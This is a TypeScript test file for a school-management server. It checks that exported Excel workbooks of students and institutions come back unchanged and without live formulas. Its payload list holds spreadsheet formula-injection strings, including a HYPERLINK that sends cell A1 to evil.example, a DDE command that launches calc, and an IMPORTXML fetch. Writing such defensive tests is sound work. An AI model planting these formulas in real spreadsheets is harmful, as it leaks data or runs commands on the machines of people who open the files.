import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { expect, test } from 'vitest';
import { actions } from '#server/actions.ts';
import { readWorkbook } from '#server/workbook/read.ts';
import { writeWorksheet } from '#server/workbook/write.ts';
import type { getCUserPageList } from '#features/cuser/cuser.contract.ts';
import { referenceReader } from '#testing/files/referenceReader.ts';
import { addClass } from '#testing/school.ts';
import { startServer } from '#testing/server.ts';

/** Texts that a spreadsheet program would calculate, fetch or run if it took them for formulas. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example")',
  '\t=1+1',
  '＝1+1',
  '"=1+1',
  '00123',
  '1e5',
  '2025-10-08',
  '林 小雨',
  '<b>&"\'',
];

test('another program reads an exported workbook unchanged, without formulas and with leading zeros', async () => {
  const { as, sqlAsOwner } = await startServer();
  await addClass({ as } as never, {
    teamname: '初二1班',
    names: payloads.map((_, index) => `学生${index}`),
    birthday: '2000-03-04',
  });
  // An import from an older system may contain such names.
  for (const [index, payload] of payloads.entries()) {
    await sqlAsOwner('update cuser set username = $2 where username = $1', [`学生${index}`, payload]);
    await sqlAsOwner('update cuserarchive set studentno = $2, classname = $3 where studentno = $1', [
      String(1001 + index),
      `${payload}${index}`,
      payload,
    ]);
  }
  await sqlAsOwner("update assessteam set teamname = '=2+2'");
  await sqlAsOwner("update muser set insname = '=3+3', shortname = '+3' where musercode = 'M_CHENGUANG'");
  const fetchExport = async (person: 'chen' | 'fang', name: string) => {
    const action = actions.find((candidate) => candidate.name === name) as typeof getCUserPageList;
    return buffer(((await as(person)(action, {})) as unknown as { body: Readable }).body);
  };
  const books = new Map<string, Uint8Array>([
    ['persons', await fetchExport('chen', 'as.m.cuser.exportCuserList')],
    ['institutions', await fetchExport('fang', 'as.m.user.exportToFile')],
    [
      'every-kind',
      await buffer(
        writeWorksheet({
          name: '表',
          heads: ['文字', { head: '数', kind: 'number' }, '文字 2'],
          rows: payloads.map((payload, index) => [payload, index - 2.5, `${payload}\n第二行`]),
        }),
      ),
    ],
  ]);
  const { name, read } = referenceReader();
  console.log(`${name} reads the exported workbooks`);
  const tables = await read(books);
  for (const [title, content] of books) {
    const { rows } = await readWorkbook(Buffer.from(content), `${title}.xlsx`);
    const width = Math.max(...rows.map((row) => row.length));
    const padded = (table: readonly (readonly string[])[]) =>
      table.map((row) => Array.from({ length: width }, (_, column) => (row[column] ?? '').replaceAll('\r', '')));
    expect([title, padded(tables.get(title) ?? [])]).toEqual([title, padded(rows)]);
  }
  const persons = tables.get('persons') ?? [];
  const names = persons.map((row) => row[persons[1]?.indexOf('姓名') ?? -1]);
  for (const payload of payloads) expect(names).toContain(payload);
  expect((tables.get('institutions') ?? []).flat()).toContain('=3+3');
});
